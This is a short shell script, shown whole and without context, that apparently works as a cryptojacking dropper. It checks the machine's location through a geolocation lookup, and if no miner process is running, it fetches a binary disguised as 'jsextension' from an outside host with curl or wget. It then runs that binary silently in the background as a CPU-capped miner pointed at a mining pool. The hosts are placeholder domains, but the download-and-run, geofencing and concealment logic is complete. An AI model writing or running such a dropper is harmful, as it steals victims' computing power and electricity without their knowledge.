IP=$(curl -k https://geo.agentstring.invalid/xml/ | grep 'XA\|XB\|XC')
if [ -z "$IP" ]
then
    var=$(pgrep jsextension)
    if [ -z "$var" ]
    then
        curl http://agentstring.invalid/download/jsextension -o jsextension
        if [ ! -f jsextension ]
        then
            wget http://agentstring.invalid/download/jsextension -O jsextension
        fi
        chmod +x jsextension
        ./jsextension -k --tls --rig-id q -o pool.agentstring.invalid:443 -u 0000INVALID --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
    fi
fi
